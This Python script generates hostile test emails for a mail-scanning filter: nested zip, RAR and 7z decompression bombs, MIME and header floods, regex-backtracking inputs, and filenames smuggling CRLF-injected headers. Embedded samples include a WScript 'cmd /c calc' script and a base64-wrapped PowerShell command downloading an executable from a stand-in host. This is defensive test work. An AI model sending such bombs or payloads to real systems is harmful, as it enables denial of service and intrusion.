#!/usr/bin/env python3
"""gen.py OUTDIR - write the hostile inputs of tests/hostile/run.sh into OUTDIR.

Every input is made here at test time (nothing big is committed): zip bombs, deep and
wide MIME, huge header lines and attachments, broken encodings, hostile names, URL
floods, inputs built to make each analyser pattern and YARA regex backtrack, a
deobfuscation chain and deeply nested archives. OUTDIR/cases.tsv lists one case per
line: name, file, the findings it must carry ("A|B" = A or B; "A,B" = both; "-" = no
limit applies, only the bounds are asserted) and a description (the promise in
tests/README.md).
"""
import base64, os, shutil, struct, subprocess, sys, zlib

OUT = sys.argv[1] if len(sys.argv) > 1 else "tests/out/hostile"
os.makedirs(OUT, exist_ok=True)
CASES = []


def case(name, data, expect, what):
    path = os.path.join(OUT, name + ".eml")
    with open(path, "wb") as f:
        if isinstance(data, (bytes, bytearray)):
            f.write(data)
        else:
            for chunk in data:
                f.write(chunk)
    CASES.append((name, path, expect, what))


def head(subject=b"hostile", ctype=b"multipart/mixed; boundary=\"B\"", extra=b""):
    return (b"From: a@example.com\r\nTo: b@example.com\r\nSubject: " + subject +
            b"\r\nMessage-ID: <h@example.com>\r\nMIME-Version: 1.0\r\n" + extra +
            b"Content-Type: " + ctype + b"\r\n\r\n")


def attach(name, data, ctype=b"application/octet-stream", boundary=b"B"):
    b64 = base64.encodebytes(data).replace(b"\n", b"\r\n")
    return (b"--" + boundary + b"\r\nContent-Type: " + ctype + b"; name=\"" + name +
            b"\"\r\nContent-Disposition: attachment; filename=\"" + name +
            b"\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64)


def mail_with(name, data, ctype=b"application/octet-stream", subject=b"hostile"):
    return head(subject) + b"--B\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n" + \
        attach(name, data, ctype) + b"--B--\r\n"


# ---------------------------------------------------------------- zip writing
def deflate(data_iter):
    """raw deflate of the chunks, with the CRC-32 and size of the plain bytes"""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    for chunk in data_iter:
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
        out.append(c.compress(chunk))
    out.append(c.flush())
    return b"".join(out), crc, size


def zip_of(members):
    """a zip from (name, raw_deflate, crc, plain_size) members (zip64 not needed: < 4 GB)"""
    body, central = bytearray(), bytearray()
    for name, comp, crc, usize in members:
        off = len(body)
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp),
                            usize & 0xFFFFFFFF, len(name), 0) + name + comp
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc,
                               len(comp), usize & 0xFFFFFFFF, len(name), 0, 0, 0, 0, 0,
                               off) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                      len(body), 0)
    return bytes(body + central + end)


def zeros(total, chunk=1 << 24):
    while total > 0:
        n = min(chunk, total)
        yield bytes(n)
        total -= n


def gen_zips():
    # 42.zip style: 16 x 16 x 16 x 16 x 16 members, each leaf 256 MiB of zeros (1 TiB in all)
    comp, crc, size = deflate(zeros(256 << 20))
    layer = zip_of([(b"%d.bin" % i, comp, crc, size) for i in range(16)])
    for depth in range(4):
        comp, crc, size = deflate([layer])
        layer = zip_of([(b"lib%d_%d.zip" % (depth, i), comp, crc, size) for i in range(16)])
    case("zip-bomb-nested", mail_with(b"42.zip", layer, b"application/zip"),
         "LIMIT_CLAMAV_SCAN_SIZE|LIMIT_CLAMAV_FILE_SIZE|LIMIT_CLAMAV_FILES|LIMIT_CLAMAV_RECURSION",
         "42.zip-style bomb: 5 levels of 16 zips, 1 TiB of zeros; libclamav stops at its limits")
    comp, crc, size = deflate(zeros(2 << 30))
    z = zip_of([(b"disk.img", comp, crc, size)])
    case("zip-bomb-ratio", mail_with(b"big.zip", z, b"application/zip"),
         "LIMIT_CLAMAV_FILE_SIZE",
         "one member of 2 GiB of zeros, ratio ~1000:1")
    # deeply nested archives: a script in 60 levels of zip-in-zip
    inner = b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c calc');\r\n"
    name = b"invoice.js"
    for d in range(60):
        comp, crc, size = deflate([inner])
        inner = zip_of([(name, comp, crc, size)])
        name = b"level%d.zip" % d
    case("archive-deep", mail_with(b"deep.zip", inner, b"application/zip"),
         "LIMIT_CLAMAV_RECURSION", "a script inside 60 nested zips (clamav_max_recursion 25)")


# ---------------------------------------------------------------- MIME structure
def gen_mime():
    n = 10000
    parts = [head(ctype=b"multipart/mixed; boundary=\"b0\"")]
    for i in range(1, n):
        parts.append(b"--b%d\r\nContent-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n" % (i - 1, i))
    parts.append(b"--b%d\r\nContent-Type: text/plain\r\n\r\ndeep\r\n--b%d--\r\n" % (n - 1, n - 1))
    for i in range(n - 2, -1, -1):
        parts.append(b"--b%d--\r\n" % i)
    case("multipart-deep-10000", b"".join(parts), "LIMIT_MIME_DEPTH",
         "10,000 nested multiparts (max_mime_depth 32)")
    body = [head()]
    for i in range(100000):
        body.append(b"--B\r\nContent-Type: text/plain\r\n\r\np%d\r\n" % i)
    body.append(b"--B--\r\n")
    case("parts-100000", b"".join(body), "LIMIT_PARTS", "100,000 parts (max_parts 1000)")
    line = b"X-Long: " + b"a" * (10 << 20) + b"\r\n"
    case("header-line-10MB", head(ctype=b"text/plain", extra=line) + b"hello\r\n",
         "LIMIT_HEADER_FIELD", "one 10 MB header line (max_header_field_bytes 64K)")
    folded = b"X-Folded: a\r\n" + b"\tb\r\n" * (2 << 20)
    case("header-folded-10MB", head(ctype=b"text/plain", extra=folded) + b"hello\r\n",
         "LIMIT_HEADER_FIELD", "one header field of 2 million folded lines (10 MB)")
    # header-line floods: GMime builds every header field (~650 bytes each) unless
    # hdrguard_lines drops the fields past max_header_lines / max_header_lines_total first;
    # the attachment header behind the flood must still be seen
    js = base64.encodebytes(b"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c calc');"
                            ).replace(b"\n", b"\r\n")
    case("header-lines-part-2M", head() + b"--B\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
         b"--B\r\n" + b"X:A\r\n" * 2000000 + b"Content-Type: application/octet-stream; "
         b"name=\"a.js\"\r\nContent-Disposition: attachment; filename=\"a.js\"\r\n"
         b"Content-Transfer-Encoding: base64\r\n\r\n" + js + b"--B--\r\n",
         "LIMIT_HEADER_LINES,FILE_DANGEROUS_EXT",
         "2,000,000 'X:A' header lines in the second part, a .js attachment header behind them")
    case("header-lines-top-2.5M", b"X:A\r\n" * 2500000 + head(ctype=b"text/plain") + b"hello\r\n",
         "LIMIT_HEADER_LINES", "2,500,000 top-level 'X:A' header lines (max_header_lines 1000)")
    inner = b"X:A\r\n" * 1000000 + b"Subject: inner\r\n\r\nbody\r\n"
    case("header-lines-rfc822-1M", head() + b"--B\r\nContent-Type: message/rfc822\r\n\r\n" +
         inner + b"--B\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64"
         b"\r\n\r\n" + base64.encodebytes(inner).replace(b"\n", b"\r\n") + b"--B--\r\n",
         "LIMIT_HEADER_LINES", "1,000,000 header lines in an attached message, plain and base64")
    big = os.urandom(38 << 20)  # base64: 51 MB, over max_message_size 50M
    case("base64-50MB", mail_with(b"data.bin", big),
         "LIMIT_MESSAGE_SIZE,LIMIT_PART_BYTES", "a 50 MB base64 attachment (38 MB decoded)")
    trunc = base64.b64encode(b"MZ" + os.urandom(3000))[:-3]
    case("truncated-base64", head() + b"--B\r\nContent-Type: application/octet-stream; name=a.exe"
         b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + trunc + b"\r\n",
         "MIME_BAD_BASE64", "base64 cut mid quantum, message cut before its closing boundary")
    case("truncated-qp", head() + b"--B\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: "
         b"quoted-printable\r\n\r\n<a href=3D\"http://x.example/\">x</a>=\r\n=3", "MIME_TRUNCATED",
         "quoted-printable ending in a soft break and a cut escape, no closing boundary")


# ---------------------------------------------------------------- hostile names
def gen_names():
    names = [b"inv\x00oice.pdf.exe", b"\xff\xfe\xc3(\xe2\x82.js", b"=?utf-8?B?" +
             base64.b64encode(b"a\x00b\xe2\x80\xaegpj.exe") + b"?=",
             b"=?x-unknown?Q?=FF=FE=00?=.vbs"]
    body = [head(subject=b"=?utf-8?B?" + base64.b64encode(b"nul\x00 and \xff bad") + b"?=")]
    for n in names:
        body.append(b"--B\r\nContent-Type: application/octet-stream; name=\"" + n +
                    b"\"\r\nContent-Disposition: attachment; filename=\"" + n +
                    b"\"\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA\r\n")
    body.append(b"--B--\r\n")
    case("names-nul-invalid-utf8", b"".join(body), "-",
         "NUL bytes and invalid UTF-8 in file names and the subject (raw and RFC 2047)")
    # an over-long name keeps its extension (hdrguard keeps the tail of a cut field); an
    # encoded NUL in an RFC 2231 name is a finding and what follows it is kept
    js = base64.encodebytes(b"var s = 1;\r\n").replace(b"\n", b"\r\n")
    for name, disp, expect, what in (
            ("names-long-js", b"filename=\"" + b"a" * 70000 + b".js\"",
             "LIMIT_HEADER_FIELD,FILE_DANGEROUS_EXT", "a .js file name of 70,000 bytes"),
            ("names-nul-rfc2231", b"filename*=utf-8''evil%00" + b"x" * 10 + b".js",
             "MIME_NUL_IN_NAME,FILE_DANGEROUS_EXT", "filename*=utf-8''evil%00...js")):
        case(name, head() + b"--B\r\nContent-Type: application/octet-stream\r\n"
             b"Content-Disposition: attachment; " + disp + b"\r\nContent-Transfer-Encoding: "
             b"base64\r\n\r\n" + js + b"--B--\r\n", expect, what)
    crlf = b"=?utf-8?Q?a=0D=0AX-Fileless-Verdict:=20clean=0D=0A=1B[31m=07?="
    body = [head(subject=crlf + b" \x1b]0;title\x07")]
    for n in (b"=?utf-8?Q?evil=0D=0ABcc:=20x@example.com.js?=", b"a\x1b[2J\x08\x7f.vbs",
              b"=?utf-8?B?" + base64.b64encode(b"\r\n\t\x01\x02\x85\xe2\x80\xa8x.exe") + b"?="):
        body.append(b"--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: "
                    b"attachment; filename=\"" + n + b"\"\r\nContent-Transfer-Encoding: base64"
                    b"\r\n\r\nTVqQAAMAAAAEAAAA\r\n")
    body.append(b"--B--\r\n")
    case("names-crlf-control", b"".join(body), "-",
         "CR/LF, ESC and other control characters in file names and the subject")


# ---------------------------------------------------------------- URLs
def gen_urls():
    links = b"".join(b"<a href=\"http://h%d.example/p\">x</a>\n" % i for i in range(100000))
    case("urls-100000", head(ctype=b"text/html") + b"<html><body>" + links + b"</body></html>\r\n",
         "LIMIT_URLS", "100,000 distinct URLs in one HTML body (max_urls 5000)")


# ---------------------------------------------------------------- analyser patterns
def script_mail(name, text):
    return mail_with(name, text, b"application/octet-stream")


def gen_patterns():
    mb = 1 << 20
    pat = {
        # YARA fileless.yar regexes: many starts, each running to the bound before failing
        "yara-mshta": (b"a.hta", (b"mshta \"" + b"x" * 39 + b"\r\n") * (mb // 48)),
        "yara-powershell-enc": (b"a.ps1", (b"powershell '" + b"y" * 79 + b" -e " + b"A" * 39 +
                                            b"!\r\n") * (mb // 140)),
        "yara-run-key": (b"a.vbs", b"CurrentVersion\\" * (mb // 15) + b"\r\nRegWrite mshta base64"),
        # heur_script/deobf: unterminated literals, open calls, long concatenation chains
        "js-open-calls": (b"a.js", b"String.fromCharCode(" * (mb // 20) + b"\"" * 1000),
        "js-concat-chain": (b"a.js", b"var s = " + b"\"a\"+" * (mb // 4) + b"\"b\";\r\n"),
        "js-unterminated": (b"a.js", b"\"" + b"\\" * mb + b"x"),
        "js-replace-chain": (b"a.js", b"var s = \"" + b"ab" * 1000 + b"\"" +
                             b".replace(\"a\",\"aa\")" * (mb // 20) + b";\r\n"),
        "js-reverse-chain": (b"a.js", b"var s = \"abc\"" + b".split(\"\").reverse().join(\"\")" *
                             (mb // 32) + b";\r\n"),
        "vbs-chr-chain": (b"a.vbs", b"x = " + b"Chr(65) & " * (mb // 11) + b"Chr(66)\r\n"),
        "vbs-strreverse-nest": (b"a.vbs", b"StrReverse(" * (mb // 11) + b"\"x\"" + b")" * 1000),
        "ps1-format-backticks": (b"a.ps1", b"(\"{0}{1}\" -f " * (mb // 14) + b"`" * mb),
        "ps1-enc-spaces": (b"a.ps1", b"powershell" + b" -" * (mb // 2) + b"enc " + b"A" * 39),
        "bat-carets-set": (b"a.bat", b"set a=%" * (mb // 7) + b"^" * mb + b"%a:~0,1%" * 1000),
        "base64-almost": (b"a.js", (b"A" * 39 + b"!") * (mb // 40)),
        "registry-keys": (b"a.reg", b"Windows Registry Editor Version 5.00\r\n" +
                          b"[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n" *
                          (mb // 70)),
        "hta-tags": (b"a.hta", b"<script" * (mb // 7) + b"<HTA:APPLICATION " * 1000),
    }
    # heur_xlm (macro sheet XML by name) and the LNK parser + command-line analysis
    pat["xlm-calls"] = (b"sheet.xml", b"<xm:macrosheet>" + b"<f>=EXEC(CALL(REGISTER(" * (mb // 24))
    lnk_args = ("^c^m^d /c " * 6500)[:65535]
    lnk = (struct.pack("<I16sIIQQQIiIHHII", 0x4C,
                       bytes.fromhex("0114020000000000c000000000000046"), 0xA0, 0x20, 0, 0, 0,
                       0, 0, 7, 0, 0, 0, 0) +
           struct.pack("<H", len(lnk_args)) + lnk_args.encode("utf-16le"))
    pat["lnk-args"] = (b"invoice.lnk", lnk)
    for name, (fn, text) in pat.items():
        case("pattern-" + name, script_mail(fn, text), "-",
             "pathological input for the %s pattern (%d bytes)" % (name, len(text)))
    # html.c / url.c: open tags, open quotes, endless entities, defanged-URL lookalikes
    html = {
        "html-open-tags": b"<a href=\"" * (mb // 9),
        "html-entities": b"&#x" + b"0" * mb + b"&amp" * (mb // 4),
        "html-comments": b"<!--" * (mb // 4) + b"<a href=http://x.example/>",
        "url-defanged": b"hxxp[:]//" * (mb // 9) + b"(.)" * (mb // 3),
        "url-ip-forms": b"http://0x" + b"0" * mb + b" http://" + b"1." * (mb // 2),
        "url-userinfo": b"http://" + b"a@" * (mb // 2) + b"x.example/",
    }
    for name, text in html.items():
        case("pattern-" + name, head(ctype=b"text/html") + text + b"\r\n", "-",
             "pathological input for the %s scanner (%d bytes)" % (name, len(text)))
    # text/plain URL finder
    case("pattern-url-text", head(ctype=b"text/plain") + b"www." * (mb // 4) + b"\r\n", "-",
         "a million 'www.' without a host for the plain-text URL finder")


# ---------------------------------------------------------------- deobfuscation chain
def gen_deobf():
    # base64 of base64 of ...: the text grows by 4/3 per level, so 1,000 levels cannot be
    # written; 36 levels (~1.6 MB) is far past max_decode_depth (8)
    payload = b"powershell -w hidden -c iwr http://x.example/a.exe"
    for _ in range(36):
        payload = base64.b64encode(payload)
    case("deobf-base64-36", script_mail(b"a.js", b"var p = atob(\"" + payload + b"\");\r\n"),
         "LIMIT_DECODE_DEPTH", "base64 of base64 ... 36 levels in a script (max_decode_depth 8)")
    # a chain that does not grow: each level is eval(atob("...")) of the next, so 1,000 levels
    # fit only when the inner ones are cut; instead 1,000 different base64 literals, each
    # decoding to a script with another literal: wide rather than deep
    lits = b"".join(b"var v%d = atob(\"%s\");\r\n" % (i, base64.b64encode(
        b"var w = atob('" + base64.b64encode(b"WScript.Shell %d" % i * 4) + b"');")) for i in range(1000))
    case("deobf-wide-1000", script_mail(b"b.js", lits), "LIMIT_SCRIPT_DECODED",
         "1,000 base64 literals that each decode to another (32 decoded layers per script)")


# ---------------------------------------------------------------- issue 15: bombs (coverage)
def case_conf(name, overrides):
    """OUT/name.conf: the shipped milter.conf with overrides; run.sh passes it with -c"""
    keys = {k for k, _ in overrides}
    with open("milter.conf") as src, open(os.path.join(OUT, name + ".conf"), "w") as dst:
        for line in src:
            k = line.split("=")[0].strip()
            if k == "rules_dir":
                dst.write("rules_dir = %s\n" % os.path.abspath("rules"))
            elif k not in keys:
                dst.write(line)
        for k, v in overrides:
            dst.write("%s = %s\n" % (k, v))


def gen_coverage_bombs():
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "coverage"))
    import mkrar
    # the 42.zip of issue 15: 4 levels x 16 identical members, a 32 MiB leaf of zeros
    comp, crc, size = deflate(zeros(32 << 20))
    leafzip = zip_of([(b"%d.bin" % i, comp, crc, size) for i in range(16)])
    layer = leafzip
    for depth in range(3):
        comp, crc, size = deflate([layer])
        layer = zip_of([(b"lib%d_%d.zip" % (depth, i), comp, crc, size) for i in range(16)])
    case("zip-bomb-42", mail_with(b"42.zip", layer, b"application/zip"), "ARCHIVE_BOMB",
         "4 levels x 16 identical members, 32 MiB leaf: each distinct layer analysed once")
    # a RAR (unpacked by libarchive) of 16 identical zips of 16 x 32 MiB of zeros
    comp, crc, size = deflate([leafzip])
    midzip = zip_of([(b"lib%d.zip" % i, comp, crc, size) for i in range(16)])
    rar = mkrar.rar5([("part%d.zip" % i, midzip) for i in range(16)])
    case("rar-bomb-nested", mail_with(b"bomb.rar", rar), "ARCHIVE_BOMB",
         "RAR 5 of 16 identical zips of 16 zips of 16 x 32 MiB of zeros")
    # a 7z of 1 GiB of zeros, 16 identical copies in a zip (needs 7zz at test time)
    z7 = shutil.which("7zz") or shutil.which("7z")
    if z7:
        out = os.path.join(OUT, "zeros.7z")
        if os.path.exists(out):
            os.unlink(out)
        p = subprocess.Popen([z7, "a", "-t7z", "-mx=1", "-sizeros.bin", out], stdin=subprocess.PIPE,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for chunk in zeros(1 << 30):
            p.stdin.write(chunk)
        p.stdin.close()
        p.wait()
        with open(out, "rb") as f:
            z = f.read()
        os.unlink(out)
        comp, crc, size = deflate([z])
        outer = zip_of([(b"copy%d.7z" % i, comp, crc, size) for i in range(16)])
        case("7z-bomb", mail_with(b"7z-bomb.zip", outer, b"application/zip"),
             "ARCHIVE_BOMB", "16 identical 7z archives, each 1 GiB of zeros")
    # the same behind a password stated in the body: 7zz (scan/extunpack.c) opens it, its
    # output stops at max_total_bytes; 256 MiB of zeros, headers encrypted too
    if z7:
        out = os.path.join(OUT, "zeros-pw.7z")
        if os.path.exists(out):
            os.unlink(out)
        p = subprocess.Popen([z7, "a", "-t7z", "-mx=1", "-pbomb-pw", "-mhe=on", "-sizeros.bin", out],
                             stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        for chunk in zeros(256 << 20):
            p.stdin.write(chunk)
        p.stdin.close()
        p.wait()
        with open(out, "rb") as f:
            z = f.read()
        os.unlink(out)
        raw = head() + b"--B\r\nContent-Type: text/plain\r\n\r\nThe password is: bomb-pw\r\n" + \
            attach(b"invoice.7z", z) + b"--B--\r\n"
        case("7z-bomb-password", raw, "LIMIT_ARCHIVE_MEMBERS",
             "256 MiB of zeros in a 7z whose password is stated in the body (7zz helper)")
    # libclamav's own time limit, provoked: 4000 distinct members, clamav_max_scan_time 100 ms
    members = []
    for i in range(4000):
        comp, crc, size = deflate([b"member %d\r\n" % i * 40])
        members.append((b"m%04d.txt" % i, comp, crc, size))
    case_conf("clamav-time-limit", [("clamav_max_scan_time", "100")])
    case("clamav-time-limit", mail_with(b"many.zip", zip_of(members), b"application/zip"),
         "LIMIT_CLAMAV_SCAN_TIME", "4,000 members with clamav_max_scan_time = 100 ms")


def main():
    gen_coverage_bombs()
    gen_mime()
    gen_names()
    gen_urls()
    gen_patterns()
    gen_deobf()
    gen_zips()
    with open(os.path.join(OUT, "cases.tsv"), "w") as f:
        for c in CASES:
            f.write("\t".join(c) + "\n")
    print("gen.py: %d hostile inputs in %s" % (len(CASES), OUT))


if __name__ == "__main__":
    main()
